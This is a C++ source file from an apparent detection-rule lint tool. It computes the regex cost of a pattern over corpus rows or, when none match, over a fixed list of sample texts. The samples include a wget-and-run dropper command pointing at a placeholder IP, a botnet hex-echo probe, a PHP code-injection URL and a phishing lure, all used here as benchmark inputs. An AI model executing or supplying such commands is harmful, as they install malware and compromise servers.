// SPDX-License-Identifier: Apache-2.0
#include "lint/pattern_cost.hpp"

#include <array>

#include "base/limits.hpp"
#include "base/regex.hpp"

namespace ttp::lint {

namespace {

constexpr std::size_t most_rows = 1000;

/// What shells and servers are sent all day.
constexpr auto usual_texts = std::to_array<std::string_view>({
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh "
    "bins.sh",
    "echo -e \"\\x47\\x72\\x6f\\x70/tmp\" > /tmp/.nippon; cat /tmp/.nippon; rm -f /tmp/.nippon",
    "/index.php?s=/module/action/param1/${@print(md5(1234))}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
    "Safari/537.36",
    "Your parcel could not be delivered: confirm your address within 24 hours",
    "root",
});

}  // namespace

PatternCost cost_of(const PatternUse& use, std::string_view source_kind, const Pack& pack) {
  PatternCost cost;
  const auto counter = RegexStepCounter::compile(use.node->text, use.nocase);
  if (!counter || use.fields.empty()) return cost;
  const auto add = [&](std::string_view text) {
    cost.steps += counter->count(text, limits::regex_steps);
    ++cost.events;
  };
  for (const CorpusRow& row : pack.corpus) {
    if (row.source_kind != source_kind || cost.events >= most_rows) continue;
    Arena arena;
    JsonParser parser;
    Members members;
    if (parser.parse_object(arena.copy(row.payload), arena, members) != nullptr) continue;
    const Value* value = find_member(members, use.fields.front());
    if (value != nullptr && value->is_string()) add(decode_text(*value, arena));
  }
  cost.is_corpus = cost.events > 0;
  if (!cost.is_corpus) {
    for (const std::string_view text : usual_texts) add(text);
  }
  return cost;
}

}  // namespace ttp::lint
